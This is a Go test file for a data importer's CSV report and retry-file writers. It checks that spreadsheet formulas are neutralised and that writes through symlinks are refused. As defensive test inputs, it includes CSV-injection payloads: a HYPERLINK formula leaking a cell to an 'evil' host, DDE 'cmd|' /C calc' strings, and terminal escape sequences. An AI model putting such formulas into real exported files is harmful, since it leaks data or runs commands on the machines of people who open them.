package importer

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

// readCells reads a report with encoding/csv, as a spreadsheet's importer
// would, header included.
func readCells(t testing.TB, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatalf("the report is not valid CSV: %v", err)
	}
	return recs
}

func TestReportFormulaCells(t *testing.T) {
	tests := []struct {
		in   string
		cell string // as written in the file
		back string // as ReadReport gives it
	}{
		{"a@x.io", "a@x.io", "a@x.io"},
		{"=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "=HYPERLINK(\"http://evil/?\"&A1,\"click\")"},
		{"+14155550100", "'+14155550100", "+14155550100"},
		{"-5 is not a count", "'-5 is not a count", "-5 is not a count"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+2", `\t=1+2`, `\t=1+2`}, // escaped first: starts with a backslash
		{"\r=1+2", `\r=1+2`, `\r=1+2`},
		{"\n=1+2", `\n=1+2`, `\n=1+2`},
		{"  =1+2", "'  =1+2", "  =1+2"},
		{"\u00a0\u3000@x", "'\u00a0\u3000@x", "\u00a0\u3000@x"},
		{"＝1+2", "'＝1+2", "＝1+2"},
		{"'quoted", "''quoted", "'quoted"},
		{"''", "'''", "''"},
		{"a=b", "a=b", "a=b"},
		{"1;=2", "1;=2", "1;=2"}, // enclosed in quotes: ; never starts a cell
		{"x,=1+2", "x,=1+2", "x,=1+2"},
		{"\x1b]0;pwned\x07\x1b[2J", `\x1b]0;pwned\a\x1b[2J`, `\x1b]0;pwned\a\x1b[2J`},
		{"a\x00b\xff\u202e", `a\x00b\xff\u202e`, `a\x00b\xff\u202e`},
		{"", "", ""},
	}
	dir := t.TempDir()
	path := filepath.Join(dir, "users.report.csv")
	w, err := NewReportWriter(path)
	if err != nil {
		t.Fatal(err)
	}
	for i, tc := range tests {
		// The same hostile text in every text column.
		if err := w.Write(ReportRow{Row: i + 1, Identifier: tc.in, Outcome: Outcome(tc.in), UserID: tc.in, Reason: tc.in, SourceID: tc.in}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(path)
	if n := bytes.Count(b, []byte("\n")); n != len(tests)+1 {
		t.Errorf("%d lines for %d records and a header:\n%s", n, len(tests), b)
	}
	recs := readCells(t, path)
	if len(recs) != len(tests)+1 {
		t.Fatalf("%d CSV records", len(recs))
	}
	got, err := ReadReport(path)
	if err != nil {
		t.Fatal(err)
	}
	for i, tc := range tests {
		for c, cell := range recs[i+1][1:] {
			if cell != tc.cell {
				t.Errorf("%q: column %d written as %q, want %q", tc.in, c+2, cell, tc.cell)
			}
		}
		want := ReportRow{Row: i + 1, Identifier: tc.back, Outcome: Outcome(tc.back), UserID: tc.back, Reason: tc.back, SourceID: tc.back}
		if got[i] != want {
			t.Errorf("%q: ReadReport gives %+v, want %+v", tc.in, got[i], want)
		}
	}
	// A semicolon-separated reading (a spreadsheet in a locale whose list
	// separator is ;) sees no formula either: the cell is quoted whole.
	if !bytes.Contains(b, []byte(`"1;=2"`)) {
		t.Errorf("a cell with ; is not enclosed in quotes:\n%s", b)
	}
}

func TestReportWriterAbortAndLinks(t *testing.T) {
	dir := t.TempDir()
	export := filepath.Join(dir, "users.csv")
	if err := os.WriteFile(export, []byte("email\na@x.io\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Run("abort leaves an earlier report as it was", func(t *testing.T) {
		path := filepath.Join(dir, "abort.report.csv")
		os.WriteFile(path, []byte("an earlier report\n"), 0o600)
		w, err := NewReportWriter(path)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(ReportRow{Row: 1, Outcome: OutcomeFailed})
		w.Abort()
		w.Abort()
		if b, _ := os.ReadFile(path); string(b) != "an earlier report\n" {
			t.Errorf("report %q", b)
		}
		assertNoTemporaries(t, dir)
	})
	t.Run("nothing is written before Close", func(t *testing.T) {
		path := filepath.Join(dir, "late.report.csv")
		w, err := NewReportWriter(path)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(ReportRow{Row: 1, Outcome: OutcomeValid})
		if _, err := os.Stat(path); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("the report exists before Close: %v", err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		w.Abort() // after Close: nothing
		if rows, err := ReadReport(path); err != nil || len(rows) != 1 {
			t.Errorf("%v %v", rows, err)
		}
		assertNoTemporaries(t, dir)
	})
	t.Run("a link to the export is refused", func(t *testing.T) {
		path := filepath.Join(dir, "link.report.csv")
		if err := os.Symlink(export, path); err != nil {
			t.Skip(err)
		}
		if _, err := NewReportWriter(path); err == nil {
			t.Error("a report written through a link")
		}
		if _, err := NewJSONRecordsWriter(path, IdentifierEmail, false); err == nil {
			t.Error("a request document written through a link")
		}
		if b, _ := os.ReadFile(export); string(b) != "email\na@x.io\n" {
			t.Errorf("export changed: %q", b)
		}
	})
	t.Run("a hard link to the export is replaced, not truncated", func(t *testing.T) {
		path := filepath.Join(dir, "hard.report.csv")
		if err := os.Link(export, path); err != nil {
			t.Skip(err)
		}
		w, err := NewReportWriter(path)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		if b, _ := os.ReadFile(export); string(b) != "email\na@x.io\n" {
			t.Errorf("export changed: %q", b)
		}
	})
	t.Run("JSON records writer aborts", func(t *testing.T) {
		path := filepath.Join(dir, "emit.json")
		w, err := NewJSONRecordsWriter(path, IdentifierEmail, false)
		if err != nil {
			t.Fatal(err)
		}
		w.Abort()
		if _, err := os.Stat(path); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("aborted document exists: %v", err)
		}
		assertNoTemporaries(t, dir)
	})
}

func assertNoTemporaries(t *testing.T, dir string) {
	t.Helper()
	ents, _ := os.ReadDir(dir)
	for _, e := range ents {
		if strings.HasSuffix(e.Name(), ".tmp") {
			t.Errorf("temporary file %s left behind", e.Name())
		}
	}
}

// TestRetryRoundTrip writes the rejected records of each input shape to
// the retry file and reads it back with the same mapping: every record
// comes back with the same content.
func TestRetryRoundTrip(t *testing.T) {
	pretty := "[\n  {\n    \"email\": \"a@x.io\",\n    \"n\": 1.50,\n    \"name\": \"=cmd|' /C calc'!A0\"\n  },\n" +
		"  {\"email\": \"b@x.io\", \"tags\": [\"<x>\", \"\\u2028\"], \"nested\": {\"k\": [1, {\"z\": null}]}},\n" +
		"  {\"email\": \"c@x.io\", \"s\": \"line\\nbreak \\\"q\\\" é\"}\n]\n"
	tests := []struct {
		name, file, data string
		spec             SourceSpec
		recordsKey       string
		ext              string
	}{
		{"JSON array", "users.json", pretty, SourceSpec{Format: FormatJSON}, "", ".json"},
		{"JSON array, format detected", "users.json", pretty, SourceSpec{}, "", ".json"},
		{"wrapped document, key named", "users.json",
			"{\"total\": 3, \"meta\": {\"page\": 1}, \"users\": " + pretty + "}", SourceSpec{Format: FormatJSON, RecordsKey: "users"}, "users", ".json"},
		{"wrapped document, key found", "users.json",
			"{\"total\": 3, \"tags\": [\"x\"], \"users\": " + pretty + "}", SourceSpec{Format: FormatJSON}, "", ".json"},
		{"wrapped document, key with quotes", "users.json",
			"{\"the \\\"users\\\"\": " + pretty + "}", SourceSpec{Format: FormatJSON, RecordsKey: `the "users"`}, `the "users"`, ".json"},
		{"one-object document", "user.json", "{\"email\": \"a@x.io\", \"name\": \"A\"}\n", SourceSpec{Format: FormatJSON}, "", ".json"},
		{"NDJSON", "users.ndjson", "{\"email\":\"a@x.io\"}\n\n{\"email\": \"b@x.io\", \"n\": 2}\r\n{\"email\":\"c@x.io\",\"s\":\"\\n\"}", SourceSpec{Format: FormatNDJSON}, "", ".ndjson"},
		{"NDJSON, format detected", "users.jsonl", "{\"email\":\"a@x.io\"}\n{\"email\":\"b@x.io\"}\n", SourceSpec{}, "", ".ndjson"},
		{"CSV with ;", "users.csv", "email;name;note\r\na@x.io;Ann;\"x;y\"\r\nb@x.io;\"=1+2\";\"multi\nline\"\r\nc@x.io;\" lead\";\"\"\"q\"\"\"\r\n", SourceSpec{Delimiter: ";"}, "", ".csv"},
		{"CSV with tab, detected", "users.csv", "email\tname\na@x.io\tA\nb@x.io\tB, jr\n", SourceSpec{}, "", ".csv"},
		{"CSV of one column with an empty value", "users.csv", "email\n\"\"\na@x.io\n\"\"\n", SourceSpec{}, "", ".csv"},
		{"CSV without header", "users.csv", "a@x.io,A\nb@x.io,\"B\nC\"\n", SourceSpec{NoHeader: true, Columns: []string{"email", "name"}}, "", ".csv"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			in := filepath.Join(dir, tc.file)
			if err := os.WriteFile(in, []byte(tc.data), 0o600); err != nil {
				t.Fatal(err)
			}
			m := emailMapping()
			m.Source = tc.spec
			src, err := Open(in, m.SourceOptions())
			if err != nil {
				t.Fatal(err)
			}
			rows, err := drain(t, src)
			src.Close()
			if err != nil || len(rows) == 0 {
				t.Fatalf("%d rows, %v", len(rows), err)
			}
			path := RetryPath(filepath.Join(dir, "users.report.csv"), src.Format())
			if filepath.Ext(path) != tc.ext {
				t.Errorf("retry file %s, want %s", path, tc.ext)
			}
			w := NewRetryWriter(path, src)
			w.SetRecordsKey(m.Source.RecordsKey)
			for _, r := range rows {
				if err := w.Write(r); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			back, err := Open(path, m.SourceOptions())
			if err != nil {
				b, _ := os.ReadFile(path)
				t.Fatalf("the retry file does not open with the mapping: %v\n%s", err, b)
			}
			got, err := drain(t, back)
			back.Close()
			if err != nil {
				t.Fatal(err)
			}
			if len(got) != len(rows) {
				b, _ := os.ReadFile(path)
				t.Fatalf("%d records back of %d:\n%s", len(got), len(rows), b)
			}
			if back.Format() != src.Format() || back.Delimiter() != src.Delimiter() || !reflect.DeepEqual(back.Columns(), src.Columns()) {
				t.Errorf("read back as %s %q %q, written from %s %q %q", back.Format(), back.Delimiter(), back.Columns(), src.Format(), src.Delimiter(), src.Columns())
			}
			for i := range rows {
				a, b := rows[i], got[i]
				if a.Err != nil || b.Err != nil {
					t.Errorf("record %d: %v / %v", i+1, a.Err, b.Err)
				}
				if !reflect.DeepEqual(a.Fields, b.Fields) || !reflect.DeepEqual(a.Object, b.Object) || !bytes.Equal(compactJSON(a.Raw), compactJSON(b.Raw)) {
					t.Errorf("record %d changed:\n %q %v %s\n %q %v %s", i+1, a.Fields, a.Object, a.Raw, b.Fields, b.Object, b.Raw)
				}
			}
			if tc.recordsKey != "" {
				var doc map[string]json.RawMessage
				b, _ := os.ReadFile(path)
				if err := json.Unmarshal(b, &doc); err != nil || len(doc) != 1 || doc[tc.recordsKey] == nil {
					t.Errorf("not the wrapped document {%q: [...]}: %v\n%s", tc.recordsKey, err, b)
				}
			}
		})
	}
}

func compactJSON(raw []byte) []byte {
	var b bytes.Buffer
	if json.Compact(&b, raw) != nil {
		return raw
	}
	return b.Bytes()
}

func TestRetryWriterStaleFile(t *testing.T) {
	dir := t.TempDir()
	src := sourceOf(t, "in.csv", "email\na@x.io\n", SourceOptions{})
	rows, _ := drain(t, src)

	t.Run("abort keeps the earlier file", func(t *testing.T) {
		path := filepath.Join(dir, "abort.retry.csv")
		os.WriteFile(path, []byte("email\nold@x.io\n"), 0o600)
		w := NewRetryWriter(path, src)
		w.Write(rows[0])
		w.Abort()
		if b, _ := os.ReadFile(path); string(b) != "email\nold@x.io\n" {
			t.Errorf("retry file %q", b)
		}
		w = NewRetryWriter(path, src)
		w.Abort()
		if _, err := os.Stat(path); err != nil {
			t.Errorf("abort without records removed the earlier file: %v", err)
		}
		assertNoTemporaries(t, dir)
	})
	t.Run("a link is neither followed nor removed", func(t *testing.T) {
		target := filepath.Join(dir, "precious.csv")
		os.WriteFile(target, []byte("email\nkeep@x.io\n"), 0o600)
		path := filepath.Join(dir, "link.retry.csv")
		if err := os.Symlink(target, path); err != nil {
			t.Skip(err)
		}
		if err := NewRetryWriter(path, src).Close(); err == nil {
			t.Error("no records: a link in the retry file's place is not reported")
		}
		w := NewRetryWriter(path, src)
		if err := w.Write(rows[0]); err == nil {
			t.Error("a retry file written through a link")
		}
		w.Close()
		if li, err := os.Lstat(path); err != nil || li.Mode()&os.ModeSymlink == 0 {
			t.Errorf("the link was removed or replaced: %v", err)
		}
		if b, _ := os.ReadFile(target); string(b) != "email\nkeep@x.io\n" {
			t.Errorf("link target changed: %q", b)
		}
	})
	t.Run("a write error is kept", func(t *testing.T) {
		w := NewRetryWriter(filepath.Join(dir, "no", "such", "retry.csv"), src)
		if err := w.Write(rows[0]); err == nil {
			t.Fatal("retry file in a missing folder")
		}
		if err := w.Write(rows[0]); err == nil {
			t.Error("the second write forgets the first's error")
		}
		if err := w.Close(); err == nil {
			t.Error("Close forgets the write error")
		}
	})
}
